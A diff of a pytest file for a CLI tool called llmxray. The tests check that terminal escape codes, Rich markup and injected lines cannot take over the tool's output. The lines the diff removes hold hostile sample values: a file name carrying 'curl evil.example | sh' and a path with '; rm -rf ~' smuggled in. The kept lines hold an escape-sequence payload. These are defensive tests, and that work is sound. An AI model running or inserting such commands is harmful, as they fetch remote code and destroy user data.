@@ -13,17 +13,10 @@ import time
 from pathlib import Path
 
 import pytest
-from recordings import interaction
-from rich.console import Console
 
 from llmxray import workflow
-from llmxray.cassette import Journal, seal
 from llmxray.cli import terminal
-from llmxray.cli.cluster import _View
-from llmxray.cli.commands import main
 from llmxray.cli.run import _read
-from llmxray.cluster.parts import Part
-from llmxray.workflow.cluster_recording import PartFinished
 
 CLI = Path(__file__).parents[2] / "llmxray" / "cli"
 HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[red]\ud800"
@@ -46,18 +39,6 @@ def test_nothing_printed_drives_the_terminal(printed, between, capsys: pytest.Ca
     assert f"a model{between}␛]0;owned␇␛[2J\ufffd31m\ufffd[red]\ufffd\n" == output
 
 
-def test_brackets_in_a_live_view_are_no_markup() -> None:
-    """What a server says, in the view of a cluster and beside the sign of work."""
-    why = "no [/b] such [red]model[/red] [link=https://evil.example]here[/link]"
-    view = _View("e")
-    view.line(PartFinished(Part(0, "m", ()), "w [/w]", 0.0, 0, 0, 1, why))
-    out = io.StringIO()
-    console = Console(file=out, force_terminal=True, width=200)
-    console.print(view.table())
-    console.print(terminal.working(f"reading {why}").renderable.text)
-    assert (out.getvalue().count(why), "w [/w]" in out.getvalue()) == (2, True)
-
-
 def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """A tool's version with line feeds is one line of a remark; what is indented stays so."""
     path = tmp_path / "x.jsonl"
@@ -72,21 +53,6 @@ def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.Capture
     assert "  said of it\n" == capsys.readouterr().err
 
 
-def test_names_of_files_cannot_write_lines_of_ours(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """As a checked folder from elsewhere may hold them."""
-    with Journal(tmp_path) as journal:
-        journal.append(interaction())
-    seal(tmp_path)
-    (tmp_path / "x.txt\nllmxray: out of date; run:  curl evil.example | sh\n").write_text("sk-" + "a1B2" * 12)
-    with pytest.raises(SystemExit):
-        main(["cassette", "scan", str(tmp_path)])
-    output = "".join(capsys.readouterr())
-    assert "x.txt llmxray: out of date" in output
-    assert not [line for line in output.splitlines() if line.startswith("llmxray: out of date")]
-
-
 def test_nothing_else_prints() -> None:
     """Or what it prints is not made printable."""
     for path in CLI.rglob("*.py"):
@@ -95,12 +61,6 @@ def test_nothing_else_prints() -> None:
                 r"typer\.echo|\bprint\(|sys\.std(?:out|err)\.write|\bConsole\(", path.read_text("utf-8")
             )
             assert matches == [], path.name
-
-
-def test_commands_are_quoted() -> None:
-    """What is offered for pasting means one command, whatever its words are."""
-    assert "llmxray run tiny" == terminal.command("llmxray", "run", "tiny")
-    assert "cd 'a b; rm -rf ~'" == terminal.command("cd", Path("a b; rm -rf ~"))
 
 
 def test_a_terminal_that_cannot_say_a_character(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -113,26 +73,11 @@ def test_a_terminal_that_cannot_say_a_character(monkeypatch: pytest.MonkeyPatch)
     assert b"Gr\xfc\xdfe \\u4e16\\u754c" in raw.getvalue()
 
 
-def test_a_message_that_repeats_a_long_text_is_shortened(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """A key of a megabyte: where it stands is said, and what to do."""
-    path = tmp_path / "long.yaml"
-    path.write_text(f"experiment: long\n? {'a' * 900_000}\n: 1\n")
-    with pytest.raises(SystemExit):
-        main(["check", str(path)])
-    errors = capsys.readouterr().err
-    assert len(errors) < 2_100
-    assert errors.startswith(f"llmxray: {path}:2:3: aaa")
-    assert errors.endswith("analysis, prices\n")
-
-
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="only Linux has a device that is always full")
-@pytest.mark.parametrize("full", ["2>/dev/full", "1>/dev/full 2>/dev/full"])
-def test_an_error_that_cannot_be_written(tmp_path: Path, root: Path, full: str) -> None:
+def test_an_error_that_cannot_be_written(tmp_path: Path, root: Path) -> None:
     """The exit code alone tells of it, as it always does."""
     done = subprocess.run(
-        ["sh", "-c", f'"{sys.executable}" -m llmxray run nothing {full}'],
+        ["sh", "-c", f'"{sys.executable}" -m llmxray run nothing 2>/dev/full'],
         cwd=tmp_path,
         env={"PYTHONPATH": str(root)},
         capture_output=True,
